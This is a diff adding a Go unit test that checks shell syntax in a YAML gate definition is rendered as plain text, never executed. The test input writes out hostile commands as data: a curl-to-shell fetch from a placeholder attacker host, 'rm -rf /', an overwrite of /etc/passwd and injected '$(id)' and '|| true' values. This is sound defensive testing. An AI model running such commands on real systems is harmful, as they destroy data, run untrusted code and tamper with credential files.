@@ -94,3 +94,20 @@ func TestRenderHandBuiltGate(t *testing.T) {
 }
 
 func strings_Replace(s, old, new string) string { return strings.Replace(s, old, new, 1) }
+
+// TestTemplatesAreText: shell syntax in run and with is rendered as text,
+// never interpreted; the text builtins (printf, len, index) are allowed
+// since they only see the scope.
+func TestTemplatesAreText(t *testing.T) {
+	src := "version: 1\ngates:\n" +
+		"  g:\n" +
+		"    run: \"$(curl -s evil.example | sh); `rm -rf /`; echo {{.Name}} > /etc/passwd && {{printf \\\"%q\\\" .Dir}} {{len .Paths}} {{index .Paths 0}}\"\n" +
+		"    with: {env: \"${HOME} $(id) {{.Kind}}\", list: [\"|| true\", 1, true]}\n" +
+		"services:\n  s:\n    paths: [\"svc/s/**\"]\n    gates: [g]\n"
+	g, _, err := graph.Parse("gates.yaml", []byte(src))
+	require.NoError(t, err)
+	run, with, err := g.Gates["g"].Render(g.Scope("service", "s"))
+	require.NoError(t, err)
+	assert.Equal(t, "$(curl -s evil.example | sh); `rm -rf /`; echo s > /etc/passwd && \"svc/s\" 1 svc/s/**", run)
+	assert.Equal(t, map[string]any{"env": "${HOME} $(id) service", "list": []any{"|| true", 1, true}}, with)
+}
